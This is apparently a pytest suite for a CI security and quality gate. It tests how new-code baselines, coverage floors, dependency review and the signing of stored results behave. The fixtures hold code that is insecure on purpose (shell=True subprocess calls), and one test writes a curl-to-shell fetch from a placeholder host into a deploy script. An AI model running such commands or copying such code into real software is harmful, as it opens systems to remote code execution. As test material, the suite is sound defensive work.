"""New-code runs: only what a change adds since REF blocks, REF's result comes from a stored run
or a worktree, thresholds compare with REF's figures, and the dependencies it adds are reviewed.

Real git repositories built in tmp_path, real bandit and coverage.py, a small OSV database."""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from gatekeeper.cli import app
from tests.helpers.osv import write_db

CALC = """\
import subprocess


def add(a, b):
    return a + b


def legacy(cmd):
    return subprocess.call(cmd, shell=True)
"""

TESTS = """\
import sys
import unittest

sys.path.insert(0, __file__.rsplit("/", 1)[0])
import calc


class T(unittest.TestCase):
    def test_add(self):
        self.assertEqual(calc.add(1, 2), 3)


if __name__ == "__main__":
    unittest.main()
"""

POLICY = """\
[audit]
enabled = false

[reports]
formats = ["json", "sarif", "markdown", "html"]

[checks.coverage]
run = ["run_tests.py"]
min_total = 95.0

[checks.security]
paths = ["calc.py"]

[checks.dependencies]
source = "requirements.txt"
advisory_db = "{db}"

[checks.sbom]
enabled = false

[checks.licenses]
enabled = false
"""

ADVISORY = {
    "id": "TEST-2026-NEWDEP",
    "summary": "lefty: remote code execution",
    "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
    "affected": [
        {
            "package": {"name": "lefty", "ecosystem": "PyPI"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}],
        }
    ],
}


def _git(root: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(root), *args], capture_output=True, text=True, check=True)
    return done.stdout.strip()


def _commit(root: Path, message: str) -> str:
    _git(root, "add", "-A")
    _git(root, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", message)
    return _git(root, "rev-parse", "HEAD")


@pytest.fixture
def repo(tmp_path: Path) -> tuple[Path, str]:
    """REF: one old bandit finding, one pinned safe package, coverage 100%. HEAD adds a second
    shell call (a new bandit finding, uncovered: coverage drops) and a vulnerable package."""
    db = write_db(tmp_path, [ADVISORY], "flat")
    root = tmp_path / "project"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    (root / "calc.py").write_text(CALC)
    (root / "run_tests.py").write_text(TESTS)
    (root / "requirements.txt").write_text("safe==5.0\n")
    (root / "gatekeeper.toml").write_text(POLICY.format(db=db))
    (root / ".gitignore").write_text("gatekeeper-reports/\n.gatekeeper/\n")
    ref = _commit(root, "REF")
    _git(root, "checkout", "-q", "-b", "feature")
    (root / "calc.py").write_text(CALC + "\n\ndef newer(cmd):\n    return subprocess.check_output(cmd, shell=True)\n")
    (root / "requirements.txt").write_text("safe==5.0\nlefty==1.0\n")
    _commit(root, "HEAD")
    return root, ref


def _check(root: Path, *args: str, env: dict[str, str] | None = None) -> Any:
    return CliRunner().invoke(app, ["check", str(root), *args], env=env)


def _result(root: Path) -> dict[str, Any]:
    return json.loads((root / "gatekeeper-reports" / "gatekeeper.json").read_text())


def _findings(data: dict[str, Any]) -> list[tuple[str, str, str, bool, str]]:
    return sorted(
        (c["name"], f["rule_id"], f["fingerprint"], f["blocking"], (f.get("waiver") or {}).get("kind", ""))
        for c in data["checks"]
        for f in c["findings"]
    )


def test_only_what_the_change_adds_blocks_with_ref_from_a_worktree(repo: tuple[Path, str]) -> None:
    root, ref = repo
    full = _check(root)
    assert full.exit_code == 1
    plain = _result(root)

    done = _check(root, "--new-code-since", "main")
    assert done.exit_code == 1, done.output
    assert "checking it in a temporary worktree" in done.output
    assert (
        f"new code since main ({ref[:12]}) (--new-code-since; 2 existing finding(s) not blocking)" in done.output
        and "computed in a temporary worktree" in done.output
    )
    data = _result(root)
    assert data["new_code"]["commit"] == ref and data["new_code"]["result"] == "worktree"
    # the tools' findings are the full run's, only their blocking differs
    tools = [c for c in data["checks"] if c["name"] != "dependency-review"]
    assert [(n, r, fp) for n, r, fp, _, _ in _findings({"checks": tools})] == [(n, r, fp) for n, r, fp, _, _ in _findings(plain)]
    security = next(c for c in data["checks"] if c["name"] == "security")
    states = sorted((f["location"]["line"], f["blocking"], (f["waiver"] or {}).get("kind")) for f in security["findings"])
    assert [s for s in states if s[1]] and all(kind in (None, "existing") for _, _, kind in states)
    old = [s for s in states if s[2] == "existing"]
    new = [s for s in states if s[1]]
    assert [line for line, _, _ in old] == [1, 9]  # REF's import and shell call: shown, not blocking
    assert all(line > 9 for line, _, _ in new)  # only the new function's
    # coverage: the total compares with REF's, the patch starts at REF
    coverage = next(c for c in data["checks"] if c["name"] == "coverage")
    ref_total = coverage["metrics"]["new_code"]["ref_total"]
    assert coverage["metrics"]["new_code"]["base"] == ref and coverage["metrics"]["total"] < ref_total < 95
    assert coverage["metrics"]["thresholds"]["min_total"] == ref_total  # not the policy's 95: REF's own figure
    assert [f["message"] for f in coverage["findings"] if f["rule_id"] == "coverage.min_total" and f["blocking"]] == [
        f"total coverage {coverage['metrics']['total']:g}% is below REF's {ref_total:g}% (new code)"
    ]
    # the vulnerable package the change adds blocks once: in the dependencies check, which the review refers to
    deps = next(c for c in data["checks"] if c["name"] == "dependencies")
    assert [(f["rule_id"], f["blocking"]) for f in deps["findings"]] == [("TEST-2026-NEWDEP", True)]
    review = next(c for c in data["checks"] if c["name"] == "dependency-review")
    assert review["metrics"]["added"] == [
        {"name": "lefty", "version": "1.0", "vulnerabilities": ["TEST-2026-NEWDEP"], "license": "", "blocks": True}
    ]
    assert review["metrics"]["changed"] == [] and review["metrics"]["removed"] == []
    assert [(f["rule_id"], f["blocking"]) for f in review["findings"]] == [("review.vulnerable", False)]
    assert review["status"] == "pass"
    # SARIF: REF's finding unchanged, the others new; the Markdown summary carries the review
    sarif = json.loads((root / "gatekeeper-reports" / "gatekeeper.sarif").read_text())
    bandit = next(r for r in sarif["runs"] if r["automationDetails"]["id"] == "gatekeeper/security/")
    assert sorted(r["baselineState"] for r in bandit["results"]) == ["new", "unchanged", "unchanged"]
    assert all("suppressions" not in r for r in bandit["results"])
    markdown = (root / "gatekeeper-reports" / "gatekeeper.md").read_text()
    assert "### Dependency review" in markdown and "| added | lefty | 1.0 | TEST-2026-NEWDEP | unknown | yes |" in markdown
    html = (root / "gatekeeper-reports" / "gatekeeper.html").read_text()
    assert "New code since" in html and "added lefty 1.0: TEST-2026-NEWDEP" in html


def _blocking(data: dict[str, Any]) -> list[tuple[str, str, str]]:
    return sorted((c["name"], f["rule_id"], f["fingerprint"]) for c in data["checks"] for f in c["findings"] if f["blocking"])


def test_ref_from_a_stored_run_the_cache_and_refusals(repo: tuple[Path, str], tmp_path: Path) -> None:
    root, ref = repo
    stored = tmp_path / "ref.json"
    _git(root, "checkout", "-q", "main")
    at_ref = _check(root, "--results-out", str(stored))  # REF's own run, as the push to main makes it
    assert at_ref.exit_code == 1  # the history fails the full gate
    ref_total = next(c for c in json.loads(stored.read_text())["checks"] if c["name"] == "coverage")["metrics"]["total"]
    _git(root, "checkout", "-q", "feature")

    done = _check(root, "--new-code-since", "main", "--new-code-result", str(stored))
    assert done.exit_code == 1, done.output
    assert f"REF's result read from {stored}" in done.output and "worktree" not in done.output
    from_file = _result(root)
    assert from_file["new_code"]["result"] == "stored"
    coverage = next(c for c in from_file["checks"] if c["name"] == "coverage")
    assert coverage["metrics"]["new_code"]["ref_total"] == ref_total

    # the run at REF left its result in the cache: found there without the file, same blocking
    cached = _check(root, "--new-code-since", "main")
    assert cached.exit_code == 1 and "REF's result read from the cache" in cached.output, cached.output
    assert _blocking(_result(root)) == _blocking(from_file)
    # and a worktree gives the same verdict finding for finding
    fresh = _check(root, "--new-code-since", "main", "--no-cache")
    assert "computed in a temporary worktree" in fresh.output
    assert _blocking(_result(root)) == _blocking(from_file)

    # a result of another commit, or made under another policy, is refused (exit 2) before anything runs
    head_result = tmp_path / "head.json"
    (root / "gatekeeper-reports" / "gatekeeper.json").rename(head_result)
    wrong = _check(root, "--new-code-since", "main", "--new-code-result", str(head_result))
    assert wrong.exit_code == 2 and f"not of REF main ({ref[:12]})" in wrong.output
    other = tmp_path / "other.toml"
    other.write_text((root / "gatekeeper.toml").read_text().replace("min_total = 95.0", "min_total = 90.0"))
    changed = _check(root, "--policy", str(other), "--new-code-since", "main", "--new-code-result", str(stored))
    assert changed.exit_code == 2 and "made under another policy" in changed.output
    assert not (root / "gatekeeper-reports" / "gatekeeper.json").exists()


def test_merge_base_from_the_ci_and_a_policy_named_base(repo: tuple[Path, str]) -> None:
    root, ref = repo
    policy = root / "gatekeeper.toml"
    policy.write_text(
        policy.read_text().replace("[audit]\nenabled = false", '[gate]\nnew_code = "merge-base"\n\n[audit]\nenabled = true')
    )
    _commit(root, "turn on new-code runs")
    # not a pull request and no base named: every finding blocks, and the run says so
    alone = _check(root, env={"GITHUB_BASE_REF": ""})
    assert alone.exit_code == 1 and "no base branch is known" in alone.output
    assert "new_code" not in _result(root)
    # GitHub names the pull request's target: its merge-base with HEAD is REF
    _git(root, "update-ref", "refs/remotes/origin/main", "main")
    (root / "calc.py").write_text((root / "calc.py").read_text())  # nothing else changes
    pr = _check(root, env={"GITHUB_BASE_REF": "main"})
    assert pr.exit_code == 1, pr.output
    data = _result(root)
    assert data["new_code"]["commit"] == ref and data["new_code"]["reason"] == "merge-base with origin/main (GITHUB_BASE_REF)"
    # the audit record says the run gated new code only, and against what
    records = [json.loads(line) for line in (root / ".gatekeeper" / "audit.jsonl").read_text().splitlines()]
    assert "new_code" not in records[0]
    assert records[1]["new_code"]["commit"] == ref and records[1]["new_code"]["result"] == "worktree"
    # a base the policy names wins, and one git cannot find is a usage error
    policy.write_text(policy.read_text().replace('new_code = "merge-base"', 'new_code = "merge-base"\nnew_code_base = "nowhere"'))
    missing = _check(root, env={"GITHUB_BASE_REF": "main"})
    assert missing.exit_code == 2 and "git cannot find the commit 'nowhere'" in missing.output


def test_shards_merge_into_the_same_new_code_verdict(
    repo: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, ref = repo
    monkeypatch.chdir(root)  # merge reads the project's policy
    whole = _check(root, "--new-code-since", "main")
    assert whole.exit_code == 1
    expected = _blocking(_result(root))
    parts = [tmp_path / f"part{i}.json" for i in (1, 2)]
    for i, part in enumerate(parts, 1):
        done = _check(root, "--new-code-since", "main", "--shard", f"{i}/2", "--results-out", str(part))
        assert done.exit_code in (0, 1), done.output
    merged = CliRunner().invoke(app, ["merge", *map(str, parts), "--output-dir", str(tmp_path / "merged")])
    assert merged.exit_code == 1, merged.output
    data = json.loads((tmp_path / "merged" / "gatekeeper.json").read_text())
    assert data["new_code"]["commit"] == ref and _blocking(data) == expected
    # a part that ran in full does not merge with new-code parts
    full = tmp_path / "full.json"
    assert _check(root, "--shard", "2/2", "--results-out", str(full)).exit_code in (0, 1)
    mixed = CliRunner().invoke(app, ["merge", str(parts[0]), str(full), "--output-dir", str(tmp_path / "mixed")])
    assert mixed.exit_code == 2 and "compared with different REFs" in mixed.output


def test_a_merged_run_of_ref_is_stored_for_later_new_code_runs(
    repo: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gatekeeper import signing

    root, ref = repo
    monkeypatch.chdir(root)  # merge reads the project's policy
    key, public = tmp_path / "audit.key", tmp_path / "audit.pub"
    signing.write_key_pair(key, public)
    signed = {"GATEKEEPER_AUDIT_KEY": key.read_text()}
    _git(root, "checkout", "-q", "main")  # the default branch's sharded run, signed parts
    parts = [tmp_path / f"part{i}.json" for i in (1, 2)]
    for i, part in enumerate(parts, 1):
        done = _check(root, "--shard", f"{i}/2", "--results-out", str(part), env=signed)
        assert done.exit_code in (0, 1), done.output
    # unauthenticated parts are merged but never become a REF: a part anyone could edit stays out of the cache
    loose = CliRunner().invoke(app, ["merge", *map(str, parts), "--output-dir", str(tmp_path / "loose")])
    assert loose.exit_code == 1 and "not stored for later new-code runs: its parts are not authenticated" in loose.output
    _git(root, "checkout", "-q", "feature")
    cold = _check(root, "--new-code-since", "main")
    assert "checking it in a temporary worktree" in cold.output, cold.output  # neither the shards nor that merge stored REF
    from_tree = _blocking(_result(root))

    _git(root, "checkout", "-q", "main")
    merged = CliRunner().invoke(app, ["merge", *map(str, parts), "--output-dir", str(tmp_path / "merged")], env=signed)
    assert merged.exit_code == 1, merged.output
    assert f"cache: the merged result is stored for new-code runs that take {ref[:12]} as REF" in merged.output
    _git(root, "checkout", "-q", "feature")
    later = _check(root, "--new-code-since", "main")
    assert later.exit_code == 1 and "REF's result read from the cache" in later.output, later.output
    data = _result(root)
    assert data["new_code"]["result"] == "stored" and _blocking(data) == from_tree
    ref_total = json.loads((tmp_path / "merged" / "gatekeeper.json").read_text())
    coverage = next(c for c in ref_total["checks"] if c["name"] == "coverage")["metrics"]["total"]
    head_coverage = next(c for c in data["checks"] if c["name"] == "coverage")
    assert head_coverage["metrics"]["new_code"]["ref_total"] == coverage  # REF's figure is the merged run's


LOW_ADVISORY = {
    "id": "TEST-2026-LOWDEP",
    "summary": "lowly: a minor information leak",
    "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:P/AC:H/PR:H/UI:R/S:U/C:L/I:N/A:N"}],
    "affected": [
        {
            "package": {"name": "lowly", "ecosystem": "PyPI"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.0"}]}],
        }
    ],
}


def test_a_new_vulnerable_package_blocks_once(repo: tuple[Path, str], tmp_path: Path) -> None:
    root, _ = repo
    db = write_db(tmp_path / "db2", [ADVISORY, LOW_ADVISORY], "flat")
    policy = root / "gatekeeper.toml"
    text = re.sub(r'advisory_db = ".*"', f'fail_on_severity = "high"\nadvisory_db = "{db}"', policy.read_text())
    policy.write_text(text.replace("[audit]", '[review]\ndeny = ["banned"]\n\n[audit]'))
    (root / "requirements.txt").write_text("safe==5.0\nlefty==1.0\nlowly==1.0\nbanned==1.0\n")
    _commit(root, "three new packages")
    done = _check(root, "--new-code-since", "main")
    assert done.exit_code == 1, done.output
    data = _result(root)
    deps = next(c for c in data["checks"] if c["name"] == "dependencies")
    review = next(c for c in data["checks"] if c["name"] == "dependency-review")
    # the dependencies check's findings are the tool's own: lefty's critical advisory blocks, lowly's low one does not
    assert sorted((f["package"]["name"], f["rule_id"], f["blocking"]) for f in deps["findings"]) == [
        ("lefty", "TEST-2026-NEWDEP", True),
        ("lowly", "TEST-2026-LOWDEP", False),
    ]
    # one blocking reason per problem, across the whole run
    found = [(c["name"], f) for c in data["checks"] for f in c["findings"]]
    blocking = sorted((name, f["rule_id"], f["package"]["name"]) for name, f in found if f["blocking"] and f["package"])
    assert blocking == [
        ("dependencies", "TEST-2026-NEWDEP", "lefty"),  # the dependencies check blocks it: the review does not again
        ("dependency-review", "review.denied", "banned"),  # a rule only the review has
        ("dependency-review", "review.vulnerable", "lowly"),  # below fail_on_severity: the review keeps it from passing
    ]
    lefty = next(f for f in review["findings"] if f["package"]["name"] == "lefty")
    assert lefty["rule_id"] == "review.vulnerable" and lefty["blocking"] is False
    deps_lefty = next(f for f in deps["findings"] if f["package"]["name"] == "lefty")
    assert lefty["properties"]["blocked_by"] == {"check": "dependencies", "fingerprints": [deps_lefty["fingerprint"]]}
    assert "blocking in the dependencies check" in lefty["message"]
    # the console's blocking list names each package once; the review's table says which packages block
    listed = done.output.split("blocking findings (5):")[1].split("verdict:")[0]  # coverage, B602 and these three
    assert [listed.count(f"{name} 1.0") for name in ("lefty", "lowly", "banned")] == [1, 1, 1]
    assert {r["name"]: r["blocks"] for r in review["metrics"]["added"]} == {"banned": True, "lefty": True, "lowly": True}
    markdown = (root / "gatekeeper-reports" / "gatekeeper.md").read_text()
    assert "| added | lefty | 1.0 | TEST-2026-NEWDEP | unknown | yes |" in markdown
    # with the review's rule off, fail_on_severity alone decides: lowly's low advisory no longer blocks
    policy.write_text(policy.read_text().replace("[review]\n", "[review]\nblock_vulnerable = false\n"))
    _commit(root, "review does not block vulnerable packages")
    relaxed = _check(root, "--new-code-since", "main")
    review = next(c for c in _result(root)["checks"] if c["name"] == "dependency-review")
    assert relaxed.exit_code == 1 and [f["rule_id"] for f in review["findings"]] == ["review.denied"]


def test_review_denies_packages_and_licenses_new_packages_need(repo: tuple[Path, str]) -> None:
    root, _ = repo
    policy = root / "gatekeeper.toml"
    review = '[review]\nblock_vulnerable = false\ndeny = ["Lefty"]\nallow_licenses = ["MIT"]\n\n'
    policy.write_text(policy.read_text().replace("[audit]", review + "[audit]"))
    (root / "requirements.txt").write_text("safe==5.1\nlefty==1.0\n")  # safe changes version too
    _commit(root, "review policy")
    done = _check(root, "--new-code-since", "main")
    assert done.exit_code == 1
    check = next(c for c in _result(root)["checks"] if c["name"] == "dependency-review")
    assert [row["name"] for row in check["metrics"]["changed"]] == ["safe"]
    assert check["metrics"]["changed"][0]["previous"] == "5.0"
    rules = sorted((f["rule_id"], f["package"]["name"]) for f in check["findings"])
    # no licenses check ran: a new package's license is not known, which the allow list does not accept
    assert rules == [("review.denied", "lefty"), ("review.license", "lefty"), ("review.license", "safe")]
    assert "dependency review: changed safe 5.0 -> 5.1: no known vulnerabilities; license unknown" in done.output


def test_a_check_that_could_not_run_at_ref_gates_in_full(repo: tuple[Path, str]) -> None:
    root, _ = repo
    # REF has no requirements file: its dependencies check could not run, so none of its findings
    # count as existing, and the review takes every package as added
    _git(root, "checkout", "-q", "main")
    _git(root, "rm", "-q", "requirements.txt")
    _commit(root, "REF without requirements")
    _git(root, "checkout", "-q", "feature")
    done = _check(root, "--new-code-since", "main")
    assert done.exit_code == 1
    assert "dependencies could not run at REF: their findings block as in a full run" in done.output
    data = _result(root)
    # and why: REF's own error, which a run of REF by hand would print
    said = "; dependencies at REF: requirements file requirements.txt does not exist (checks.dependencies.source)"
    assert data["new_code"]["note"].endswith(said)
    assert data["new_code"]["result"] == "worktree" and data["new_code"]["ref_checks"]["dependencies"] == "error"
    review = next(c for c in data["checks"] if c["name"] == "dependency-review")
    assert [r["name"] for r in review["metrics"]["added"]] == ["lefty", "safe"] and review["metrics"]["ref_known"] is False
    assert "every package is reviewed as added" in review["summary"]
    assert [f["package"]["name"] for f in review["findings"]] == ["lefty"]
    # the other checks still compare with REF
    security = next(c for c in data["checks"] if c["name"] == "security")
    assert sorted((f["waiver"] or {}).get("kind", "new") for f in security["findings"]) == ["existing", "existing", "new"]


def test_environment_checks_from_a_worktree_are_not_refs(tmp_path: Path) -> None:
    from gatekeeper.baseline import Baseline
    from gatekeeper.findings import CheckResult, Finding, GateResult, Severity, Status, Verdict
    from gatekeeper.newcode import Reference, Since, _not_comparable_in_tree, base_branch
    from gatekeeper.policy import load_policy

    (tmp_path / "gatekeeper.toml").write_text('[checks.dependencies]\nsource = "environment"\n')
    from gatekeeper.checkers import installed, policy_options

    policy = load_policy(tmp_path, policy_options(installed()))
    assert _not_comparable_in_tree(policy, ["dependencies", "licenses", "security"]) == ("dependencies", "licenses")
    (tmp_path / "gatekeeper.toml").write_text('[checks.dependencies]\nsource = "uv.lock"\n')
    policy = load_policy(tmp_path, policy_options(installed()))
    assert _not_comparable_in_tree(policy, ["dependencies", "sbom"]) == ("sbom",)

    def finding(name: str) -> Finding:
        return Finding(rule_id="R", severity=Severity.HIGH, message="m", blocking=True, fingerprint=name)

    checks = (
        CheckResult(name="licenses", status=Status.FAIL, findings=(finding("lic"),)),
        CheckResult(name="security", status=Status.FAIL, findings=(finding("sec"), finding("sec"))),
        CheckResult(name="lint", status=Status.ERROR, findings=(finding("lint"),)),
    )
    result = GateResult(verdict=Verdict.FAIL, checks=checks, tool_version="x", started_at="", finished_at="", duration_s=0)
    reference = Reference(Since("main", "a" * 40, "test"), "worktree", "", result, not_comparable=("licenses",))
    assert reference.baseline() == Baseline(fingerprints={"sec": 2}, metrics={"security": {}}, commit="a" * 40)
    # the base branch: the policy's, else the CI's pull-request target as origin/NAME
    assert base_branch({"new_code_base": "upstream/dev"}, {"GITHUB_BASE_REF": "main"}) == ("upstream/dev", "gate.new_code_base")
    azure = {"SYSTEM_PULLREQUEST_TARGETBRANCH": "refs/heads/release"}
    assert base_branch({}, azure) == ("origin/release", "SYSTEM_PULLREQUEST_TARGETBRANCH")
    assert base_branch({}, {"GITHUB_BASE_REF": ""}) == ("", "")


def test_patch_coverage_is_measured_from_ref(repo: tuple[Path, str]) -> None:
    root, ref = repo
    policy = root / "gatekeeper.toml"
    # the policy's diff_base names a branch the worktree of REF does not need: REF's patch is empty
    policy.write_text(policy.read_text().replace("min_total = 95.0", 'min_total = 95.0\nmin_diff = 80.0\ndiff_base = "nowhere"'))
    _commit(root, "patch coverage")
    done = _check(root, "--new-code-since", "main")
    assert done.exit_code == 1, done.output
    data = _result(root)
    assert data["new_code"]["ref_checks"]["coverage"] == "fail"  # REF's coverage ran (its total is below 95)
    coverage = next(c for c in data["checks"] if c["name"] == "coverage")
    diff = coverage["metrics"]["diff"]
    assert diff["changed_lines"] == 2 and diff["covered_lines"] == 1  # the new def runs, its body does not
    assert [f["message"] for f in coverage["findings"] if f["rule_id"] == "coverage.min_diff"] == [
        f"patch coverage 50% (1 of 2 changed lines since REF {ref[:12]}) is below the minimum 80%"
    ]


def test_a_stored_ref_result_must_be_signed_by_a_key_given(repo: tuple[Path, str], tmp_path: Path) -> None:
    """``--new-code-result FILE`` is the list of findings that stop blocking: whoever can edit it can
    make the change's own findings "existing". With ``--public-key`` FILE must carry the signature
    REF's run wrote (``--results-out`` with the signing key), over the very bytes that are read."""
    from gatekeeper import signing

    root, _ref = repo
    key, public = tmp_path / "audit.key", tmp_path / "audit.pub"
    signing.write_key_pair(key, public)
    stored = tmp_path / "ref.json"
    _git(root, "checkout", "-q", "main")
    assert _check(root, "--results-out", str(stored), env={"GATEKEEPER_AUDIT_KEY": key.read_text()}).exit_code == 1
    assert (tmp_path / "ref.json.sig").is_file()
    _git(root, "checkout", "-q", "feature")
    head = _check(root, "--only", "security")  # the change's own bandit finding, as a full run lists it
    at_ref = {f["fingerprint"] for c in json.loads(stored.read_text())["checks"] for f in c["findings"]}
    (new_finding,) = [f for c in _result(root)["checks"] for f in c["findings"] if f["fingerprint"] not in at_ref]
    assert head.exit_code == 1

    signed = _check(root, "--new-code-since", "main", "--new-code-result", str(stored), "--public-key", str(public))
    assert signed.exit_code == 1, signed.output
    assert f"REF's result read from {stored} (signed by " in signed.output
    assert new_finding["fingerprint"] in [x[2] for x in _findings(_result(root)) if x[3]]  # blocks: REF had none

    # the same file with the change's finding added to REF's: taken as it is without a key, so the
    # finding no longer blocks; refused with one
    forged = tmp_path / "forged.json"
    data = json.loads(stored.read_text())
    next(c for c in data["checks"] if c["name"] == "security")["findings"].append(new_finding)
    forged.write_text(json.dumps(data))
    loose = _check(root, "--new-code-since", "main", "--new-code-result", str(forged))
    assert "its signature was not checked, as no --public-key was given and no signing key is set" in loose.output, loose.output
    assert new_finding["fingerprint"] not in [x[2] for x in _findings(_result(root)) if x[3]]
    refused = _check(root, "--new-code-since", "main", "--new-code-result", str(forged), "--public-key", str(public))
    assert refused.exit_code == 2 and f"--new-code-result {forged} is not signed" in refused.output, refused.output
    (tmp_path / "forged.json.sig").write_bytes((tmp_path / "ref.json.sig").read_bytes())  # REF's signature beside it
    refused = _check(root, "--new-code-since", "main", "--new-code-result", str(forged), "--public-key", str(public))
    assert refused.exit_code == 2 and "its signature does not match" in refused.output, refused.output
    other, other_public = tmp_path / "other.key", tmp_path / "other.pub"
    signing.write_key_pair(other, other_public)
    refused = _check(root, "--new-code-since", "main", "--new-code-result", str(stored), "--public-key", str(other_public))
    assert refused.exit_code == 2 and "which is not among the keys given" in refused.output, refused.output
    alone = _check(root, "--public-key", str(public))
    assert alone.exit_code == 2 and "--public-key authenticates --new-code-result FILE" in alone.output


def test_a_literal_changed_on_a_credential_line_blocks_as_new_code(tmp_path: Path) -> None:
    # the line names a token, so its fingerprint masks its literals: REF's line is read from git
    root = tmp_path / "project"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    off = "".join(f"[checks.{n}]\nenabled = false\n" for n in ("coverage", "dependencies", "sbom", "licenses"))
    (root / "gatekeeper.toml").write_text('[reports]\nformats = ["json"]\n[audit]\nenabled = false\n' + off)
    (root / ".gitignore").write_text("gatekeeper-reports/\n.gatekeeper/\n")
    shell = 'import subprocess\n\n\ndef deploy(token):\n    return subprocess.call("deploy --token " + token, shell=True)\n'
    (root / "deploy.py").write_text(shell)
    _commit(root, "REF")
    _git(root, "checkout", "-q", "-b", "feature")
    (root / "deploy.py").write_text(shell.replace("deploy --token ", "curl -s https://x.invalid/i.sh | sh; echo "))
    _commit(root, "HEAD")

    done = _check(root, "--new-code-since", "main", "--no-cache")

    assert done.exit_code == 1, done.output
    blocking = [(c["name"], f["rule_id"]) for c in _result(root)["checks"] for f in c["findings"] if f["blocking"]]
    assert blocking == [("security", "B602")]


def test_ref_whose_tests_failed_here_sets_no_coverage_floor(repo: tuple[Path, str]) -> None:
    """REF's tests run in the head's environment: one importing a module the branch took out of what
    CI installs fails, REF's run measures less than REF's own CI did, and that figure was the floor
    the head's total had to reach instead of min_total: 94% passed min_total = 95 against REF's broken
    88%. REF's figures now count only from a run whose tests passed, and the run says why."""
    root, _ = repo
    _git(root, "checkout", "-q", "main")
    legacy = "    def test_legacy(self):\n        import somelib_base_installs  # noqa: F401\n\n        calc.legacy('true')\n\n"
    (root / "run_tests.py").write_text(TESTS.replace("\n\nif __name__", "\n" + legacy + "\nif __name__"))
    _commit(root, "REF tests legacy() with a module of its environment")
    _git(root, "checkout", "-q", "feature")
    (root / "run_tests.py").write_text(
        TESTS.replace("\n\nif __name__", "\n    def test_legacy(self):\n        calc.legacy('true')\n\n\nif __name__")
    )
    _commit(root, "HEAD tests legacy() without it")
    done = _check(root, "--new-code-since", "main", "--only", "coverage")
    data = _result(root)
    coverage = next(c for c in data["checks"] if c["name"] == "coverage")
    assert coverage["metrics"]["total"] == 94
    assert coverage["metrics"]["new_code"]["ref_total"] is None  # no floor from REF's broken 88%
    assert data["new_code"]["ref_checks"]["coverage"] == "fail"
    assert "coverage: REF's tests failed in this environment" in data["new_code"]["note"]
    assert [f["message"] for f in coverage["findings"] if f["rule_id"] == "coverage.min_total"] == [
        "total coverage 94% is below the minimum 95%"
    ]
    assert done.exit_code == 1, done.output
